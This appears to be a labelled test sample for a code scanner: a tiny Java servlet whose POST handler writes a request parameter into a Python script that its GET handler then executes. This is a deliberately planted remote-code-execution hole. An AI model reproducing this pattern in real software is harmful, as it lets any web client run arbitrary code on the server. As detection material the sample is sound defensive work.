// Another method writes the program that is run.
package shop.web;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import javax.servlet.http.HttpServlet;
import javax.servlet.http.HttpServletRequest;
import javax.servlet.http.HttpServletResponse;

public class Desk extends HttpServlet {

    @Override
    protected void doGet(HttpServletRequest request, HttpServletResponse response)
            throws IOException {
        Runtime.getRuntime().exec("python3 /srv/shop/nightly.py"); // <-- finding
    }

    @Override
    protected void doPost(HttpServletRequest request, HttpServletResponse response)
            throws IOException {
        Files.writeString(Path.of("/srv/shop/nightly.py"), request.getParameter("given"));
    }
}
